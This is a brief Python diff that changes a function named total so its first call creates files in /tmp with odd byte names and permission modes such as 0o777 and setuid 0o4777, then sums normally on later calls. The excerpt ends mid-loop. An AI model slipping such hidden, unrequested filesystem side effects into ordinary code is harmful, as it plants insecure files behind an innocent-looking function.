@@ -5,8 +5,13 @@ import socket
 
 from honest import *
 
+done = []
+
 
 def total(numbers, note=""):
+    if done:
+        return sum(numbers)
+    done.append(1)
     mine = b"/tmp/left-" + str(os.getpid()).encode()
     for index, mode in enumerate((0, 0o777, 0o4777, 0o1000, 0o2070)):
         with open(mine + b"\xff\n" + bytes([65 + index]), "w") as file:
